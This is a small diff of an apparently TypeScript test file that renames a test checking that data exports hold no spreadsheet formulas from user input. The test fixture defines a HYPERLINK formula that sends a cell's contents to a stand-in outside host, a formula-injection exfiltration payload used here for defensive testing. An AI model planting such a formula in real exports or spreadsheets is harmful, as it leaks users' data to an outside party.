@@ -69,7 +69,7 @@ test('a search for pieces of SQL finds the words, or nothing', async () => {
 });
 
 const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
-test('no export holds a formula, whoever typed it', async () => {
+test('no export contains a formula from user input', async () => {
   const agreed = { language: 'de', privacyEdition: '1', privacyAcceptedAt: '2026-01-01T00:00:00.000Z' } as const;
   await db
     .insert(contactMessages)
